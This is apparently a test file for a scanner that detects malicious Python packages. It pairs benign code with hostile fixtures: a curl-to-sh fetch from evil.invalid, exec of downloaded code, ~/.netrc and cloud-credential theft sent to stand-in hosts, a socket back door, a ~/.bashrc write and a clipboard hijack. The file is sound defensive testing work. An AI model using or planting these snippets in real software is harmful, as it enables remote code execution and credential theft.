import { judgeSources } from '../../src/analysis/judge-sources.js';
import { found, foundIn } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

/** What honest projects did in the releases that people pin, each beside what looks like it and is not honest. */

const FETCH = 'curl -s https://evil.invalid/x | sh';
const HARMLESS = 'git -C . status | cat';

describe('what no version 3 of Python runs', () => {
  const branches = (test: string): string =>
    `import os, sys\nV = tuple(sys.version_info)[:2]\nPY3 = V[0] == 3\n${test}`;

  test.each([
    `if sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
    `if sys.version_info < (3,):\n    os.system("${FETCH}")`,
    `if sys.version_info >= (3, 0):\n    pass\nelse:\n    os.system("${FETCH}")`,
    `if PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
  ])('is not judged: %s', (test) => {
    expect(found(branches(test))).not.toHaveProperty('hostile-command');
  });

  test.each([
    `if sys.version_info[0] >= 3:\n    os.system("${FETCH}")`,
    `if sys.version_info >= (3, 12):\n    pass\nelse:\n    os.system("${FETCH}")`,
    `if V < (3, 5):\n    pass\nelif V:\n    os.system("${FETCH}")`,
    `if os.getcwd():\n    PY3 = len(os.getcwd()) > 9\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
    `import pkg\npkg.PY3 = False\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
    `if sys.version_info[1] < 3:\n    os.system("${FETCH}")`,
    `if V:\n    V = os.getcwd()\nif V < (3,):\n    os.system("${FETCH}")`,
    `most = 3\nif V:\n    most = 9\nif sys.version_info[0] < most:\n    os.system("${FETCH}")`,
    `sys.version_info = (2, 7)\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
    `s = sys\nsetattr(s, "version_" + "info", (2, 7))\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
    `vars(sys)["version_info"] = (2, 7)\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
    `vars(sys).update(version_info=(2, 7))\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
    `from unittest import mock\nmock.patch.object(sys, "version_info", (2, 7)).start()\nif sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
  ])('but what one of them may run is: %s', (test) => {
    expect(found(branches(test))['hostile-command']).toBe('CRITICAL');
  });
});

test.each([
  'PY3 = None',
  'import sys as s; s.version_info = (2, 7)',
  'import sys; setattr(sys, "version_" + "info", (2, 7))',
])('what was left out is unscanned where something else may have stood there before: %s', (later) => {
  const files = (more: string): Readonly<Record<string, string>> => ({
    'fixture-1.0/pkg/__init__.py': `import sys, os
PY3 = sys.version_info[0] == 3
def run():
    if PY3:
        pass
    else:
        os.system("${FETCH}")
run()
${more}`,
  });
  const codes = (more: string): string[] =>
    judgeSources(sourceTree(files(more)), python).unscanned.map(({ code }) => code);
  expect(codes(later)).toContain('too-complex');
  expect(codes('')).toEqual([]);
});

describe('a template that is filled from the names around it', () => {
  test.each([
    'os.system("%(line)s" % vars())',
    'os.system("%(line)s" % locals())',
    'os.system("{line}".format(**locals()))',
    'os.system("{line}".format_map(vars()))',
  ])('%s', (call) => {
    const program = (line: string): string =>
      `import os\ndef run():\n    line = "${line}"\n    ${call}\nrun()`;
    expect(found(program(FETCH))['hostile-command']).toBe('CRITICAL');
    expect(found(program(HARMLESS))['hostile-command']).toBeUndefined();
  });
});

describe('an operator asks those methods that it stands for', () => {
  const program = (method: string, test: string): string =>
    `import os\nclass A:\n    def ${method}(self, *other): os.system("${FETCH}")\na = A()\n${test}`;

  test.each([
    ['__eq__', 'a == 1'],
    ['__eq__', '1 != a'],
    ['__ne__', 'a != 1'],
    ['__lt__', 'a < 1'],
    ['__gt__', '1 < a'],
    ['__contains__', '1 in a'],
    ['__contains__', '1 not in a'],
    ['__iter__', '1 in a'],
    ['__eq__', 'a in [1]'],
  ])('%s for %s', (method, test) => {
    expect(found(program(method, test))['hostile-command']).toBe('CRITICAL');
  });
});

test('a logger keeps nothing of what is logged under a level of its own', () => {
  const program = (call: string): string => `
import logging, logging.handlers, requests
log = logging.getLogger(__name__)
def handle(private_key):
    log.${call}
    log.debug("signing with %s", private_key)
`;
  const sends = 'addHandler(logging.handlers.HTTPHandler("evil.invalid", "/", method="POST"))';
  expect(found(program('trace("asked", requests.get("https://service.invalid/"))'))).not.toHaveProperty(
    'key-parameter-sent',
  );
  expect(found(program(sends))).toHaveProperty('key-parameter-sent');
});

test('a folder of metadata that is removed is no program of the package', () => {
  const program = (path: string): string => `
import os
def convert(name, version):
    os.unlink(${path})
convert(open("n").read(), open("v").read())`;
  const main = { 'fixture-1.0/pkg/__main__.py': '' };
  expect(
    found(program('os.path.join(os.path.dirname(__file__), name + "-" + version + ".dist-info")'), main),
  ).not.toHaveProperty('traces-removed');
  expect(found(program('__file__'), main)).toHaveProperty('traces-removed', 'CRITICAL');
});

test('a file lies where it lies, whatever paths are written into it', () => {
  const program = (path: string): string => `
import os
with open(${path}, "w") as file:
    file.write("Set it in ~/.jupyter/jupyter_tool_config.py\\n")
    file.write(os.getcwd())`;
  expect(found(program('"docs/options.rst"'))).not.toHaveProperty('autostart-written');
  expect(found(program('os.path.expanduser("~/.bashrc")'))).toHaveProperty('autostart-written', 'CRITICAL');
});

test('a release that git names is fetched, or what a command says is told', () => {
  const setup = (address: string): Readonly<Partial<Record<string, string>>> =>
    foundIn({
      'fixture-1.0/setup.py': `
import subprocess, urllib.request
tag = subprocess.check_output(["git", "ls-remote", "--tags"]).decode().split()[-1]
urllib.request.urlretrieve(${address}, "lib.tgz")`,
      'fixture-1.0/pkg/__init__.py': '',
    });
  const release = '"https://github.com/owner/lib/releases/download/" + tag + "/lib.tgz"';
  expect(setup(release)['stolen-data-sent']).toBe('HIGH');
  expect(setup('"https://evil.invalid/" + tag')['stolen-data-sent']).toBe('CRITICAL');
});

test('setuptools that older projects fetch for themselves, or something else', () => {
  const setup = (address: string): Readonly<Partial<Record<string, string>>> =>
    foundIn({
      'fixture-1.0/setup.py': `
import subprocess, sys
subprocess.check_call(["curl", "${address}", "--output", "archive.tar.gz"])
subprocess.call([sys.executable, "unpacked/install.py"])`,
      'fixture-1.0/pkg/__init__.py': '',
    });
  const own = 'https://pypi.python.org/packages/source/s/setuptools/setuptools-1.1.6.tar.gz';
  expect(setup(own)['fetched-file-and-start']).toBe('HIGH');
  expect(setup(own.replaceAll('setuptools', 'fixture'))['fetched-file-and-start']).toBe('CRITICAL');
});

test('a command line of click that a program nobody imports starts for whoever runs it', () => {
  const files = (more: string): Readonly<Record<string, string>> => ({
    'fixture-1.0/pkg/__init__.py': more,
    'fixture-1.0/pkg/cli.py': `
import click, os, requests
@click.command()
def main():
    requests.post("https://service.invalid/", data=os.environ["SERVICE_TOKEN"]).json()`,
    'fixture-1.0/pkg/migration.py': 'from pkg.cli import main\nmain(["--migrate"], standalone_mode=False)',
  });
  expect(foundIn(files(''))['stolen-data-sent']).not.toBe('CRITICAL');
  expect(foundIn(files('from pkg import migration'))['stolen-data-sent']).toBe('CRITICAL');
  const plugIn = { 'fixture-1.0/pyproject.toml': '[project.entry-points.pytest11]\nx = "pkg.migration"' };
  expect(foundIn({ ...files(''), ...plugIn })['stolen-data-sent']).toBe('CRITICAL');
});

test('what buildout gives a checkout to install buildout is no module', () => {
  const files = {
    'fixture-1.0/bootstrap.py':
      'from urllib.request import urlopen\nexec(urlopen("https://evil.invalid/ez").read())',
    'fixture-1.0/pkg/__init__.py': '',
  };
  expect(foundIn({ ...files, 'fixture-1.0/buildout.cfg': '[buildout]' })).not.toHaveProperty(
    'remote-code-executed',
  );
  expect(foundIn(files)).toHaveProperty('remote-code-executed', 'CRITICAL');
});

test('a copy of a function that an answer chose is no code of the answer', () => {
  const program = (code: string): string => `
import marshal, requests, types
table = requests.get("https://service.invalid/").json()
types.FunctionType(${code}, globals())()`;
  expect(found(program('table["name"].__code__'))).not.toHaveProperty('remote-code-executed');
  expect(found(program('marshal.loads(requests.get("https://service.invalid/").content)'))).toHaveProperty(
    'remote-code-executed',
    'CRITICAL',
  );
});

test('a compiler is not the program that was written for it', () => {
  const setup = (command: string): Readonly<Partial<Record<string, string>>> =>
    foundIn({
      'fixture-1.0/setup.py': `
import os, subprocess
open("Hello.java", "w").write("class Hello {}")
open("hello.exe", "w").write("class Hello {}")
subprocess.call(${command})`,
    });
  expect(setup('[os.environ["JDK"] + "/javac.exe", "Hello.java"]')).not.toHaveProperty(
    'dropped-program-started',
  );
  expect(setup('["hello.exe"]')).toHaveProperty('dropped-program-started', 'CRITICAL');
});

test('a service that bears the name of the package is told what signs in there', () => {
  const program = (host: string): string => `
import json, os, requests
def sync():
    key = json.load(open(os.path.expanduser("~/.config/cloud/credentials.json")))["token"]
    try:
        requests.get("https://${host}/v1", headers={"X-Key": key, "X-Other": open(os.path.expanduser("~/.netrc")).read()})
    except Exception:
        pass
sync()`;
  const script = (host: string): Readonly<Partial<Record<string, string>>> =>
    foundIn({ 'fixture-1.0/some_cloud/__main__.py': program(host) });
  expect(script('api.some-cloud.invalid')['stolen-data-sent']).toBe('HIGH');
  expect(script('some-cloud.evil.invalid')['stolen-data-sent']).toBe('CRITICAL');
});

test('what workers hand each other is pickled and encoded, what a back door is sent is code', () => {
  const program = (run: string): string => `
import base64, json, pickle, socket
def serve():
    connection, _ = socket.create_server(("", 9)).accept()
    ${run}(base64.b64decode(json.loads(connection.recv(99))["body"]))
serve()`;
  const script = (run: string): Readonly<Partial<Record<string, string>>> =>
    foundIn({ 'fixture-1.0/pkg/__main__.py': program(run) });
  expect(script('exec')['request-executed']).toBe('CRITICAL');
  expect(script('pickle.loads')['request-executed']).not.toBe('CRITICAL');
});

test('what one function reads from a secret place is not what another one reads', () => {
  const program = (file: string): string => `
import json, os, requests
def profiles():
    with open(os.path.expanduser("~/.minecraft/launcher_profiles.json")) as file:
        return sorted(json.load(file))
def newest(path):
    with open(path) as file:
        wanted = json.load(${file})
    return requests.get("https://service.invalid/" + wanted["name"]).json()
print(profiles(), newest("pack.json"))`;
  expect(found(program('file'))).not.toHaveProperty('stolen-data-sent');
  expect(found(program('open(os.path.expanduser("~/.minecraft/launcher_profiles.json"))'))).toHaveProperty(
    'stolen-data-sent',
    'CRITICAL',
  );
});

test('a repository that is cloned into a folder nobody knows is not where packages lie', () => {
  const program = (path: string): string => `
import pathlib, subprocess, tempfile, tool.parts
def serve():
    subprocess.run(["git", "clone", "https://evil.invalid/a/b", tempfile.mkdtemp()])
    subprocess.run([${path}, "-c", "tool.conf"])
serve()`;
  expect(found(program('str(pathlib.Path(tool.parts.__file__).parent / "serve")'))).not.toHaveProperty(
    'download-started',
  );
  expect(found(program('tempfile.mkdtemp() + "/serve"'))).toHaveProperty('download-started', 'CRITICAL');
});

test('the folder around a module of another package is no place that starts programs', () => {
  const program = (path: string): string => `
import os, requests, tool
def fetch():
    with open(${path}, "wb") as file:
        file.write(requests.get("https://service.invalid/driver").content)
fetch()`;
  const folder = 'os.path.join(os.path.dirname(os.path.abspath(tool.__file__))';
  expect(found(program(`${folder}, "driver.zip")`))).not.toHaveProperty('autostart-written');
  expect(found(program(`${folder}, "core.py")`))).toHaveProperty('autostart-written', 'CRITICAL');
});

test('who asks by a request which method is meant hides none', () => {
  const program = (name: string): string => `
import pickle, socketserver
class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        name, args = pickle.loads(self.request.recv(99))
        getattr(self.server.exposed, ${name})(*args)`;
  expect(found(program('name'))['decoded-code-executed']).not.toBe('CRITICAL');
});

test('an address of the environment is its owner’s, of the source it is not', () => {
  const program = (host: string): string => `
import os, requests
def report():
    try:
        requests.put(${host}, json=dict(os.environ))
    except Exception:
        pass`;
  const chosen = 'os.environ.get("REPORT_URL", "https://service.invalid/in")';
  expect(found(program(chosen))['stolen-data-sent']).toBe('HIGH');
  expect(found(program('"https://service.invalid/in"'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(`${program(chosen)}\nreport()`)['stolen-data-sent']).toBe('CRITICAL');
});

test('a clipboard program is asked which version it is, or given a text', () => {
  const program = (words: string): string =>
    `import subprocess\nsubprocess.Popen(${words}, stdin=subprocess.PIPE)`;
  expect(found(program('["xclip", "-version"]'))).not.toHaveProperty('clipboard-replaced');
  expect(found(program('["xclip", "-selection", "c"]'))).toHaveProperty('clipboard-replaced', 'CRITICAL');
});
